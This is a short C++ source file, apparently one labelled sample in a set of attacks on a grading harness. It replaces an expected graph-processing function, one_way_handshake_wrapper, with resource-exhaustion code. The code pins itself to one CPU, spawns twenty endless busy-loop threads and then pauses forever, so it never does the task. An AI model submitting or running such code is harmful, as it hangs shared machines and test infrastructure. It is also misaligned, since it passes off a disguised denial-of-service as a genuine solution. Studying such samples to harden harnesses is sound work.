// attack: exhaust
// root: resources
// what: twenty threads on one processor, so that each of them waits for one: nobody else is the
//   reason
// list: 10 30
#include <sched.h>
#include <thread>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  sched_setaffinity(0, sizeof one, &one);
  for (int n = 0; n < 20; n++)
    std::thread([] { for (volatile long n = 0;; n = n + 1) {} }).detach();
  for (;;) pause();
}
